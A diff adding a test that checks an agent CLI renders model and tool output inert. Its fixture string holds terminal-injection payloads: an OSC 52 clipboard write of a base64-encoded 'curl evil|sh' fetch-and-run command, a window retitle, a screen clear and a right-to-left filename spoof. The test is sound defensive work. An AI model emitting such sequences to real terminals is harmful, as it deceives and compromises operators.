@@ -180,6 +180,35 @@ def test_history_treats_content_as_text_not_markup(cli: Invoke, agent_name: str)
     assert "user: [bold]not markup[/bold]" in result.stdout
 
 
+#: What a hostile model or tool output would send to the operator's terminal: set the
+#: clipboard (OSC 52), retitle the window, clear the screen, overwrite the line.
+HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;pwned\x07\x1b[2J\rfake\u202egnp.exe\x9b31m"
+
+
+def test_model_and_tool_text_reach_the_terminal_inert(cli: Invoke, agent_name: str,
+                                                      live_url: str) -> None:
+    cli("create", agent_name, "--tool", "current_time")
+    with Client(live_url, timeout=30.0) as client:
+        client.update_agent(agent_name, settings={"script": [
+            {"tool_calls": [{"name": "current_time", "arguments": {"timezone": HOSTILE}}]},
+            {"text": HOSTILE}]})
+    sent = cli("send", agent_name, HOSTILE, "-s", "x")
+    outputs = [sent.output]
+    for args in (("history", agent_name, "-s", "x"),
+                 ("history", agent_name, "-s", "x", "--verbose"),
+                 ("history", agent_name, "-s", "x", "--json"),
+                 ("sessions", agent_name)):
+        result = cli(*args)
+        assert result.exit_code == 0, result.output
+        outputs.append(result.output)
+    for out in outputs:
+        for bad in ("\x1b", "\x07", "\r", "\u202e", "\x9b"):
+            assert bad not in out, (bad, out)
+    # Nothing is hidden: the sequences show as text a person can read.
+    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in outputs[1]
+    assert "\\u202e" in outputs[1]
+
+
 def test_delete(cli: Invoke, agent_name: str) -> None:
     cli("create", agent_name)
     result = cli("delete", agent_name, input="n\n")
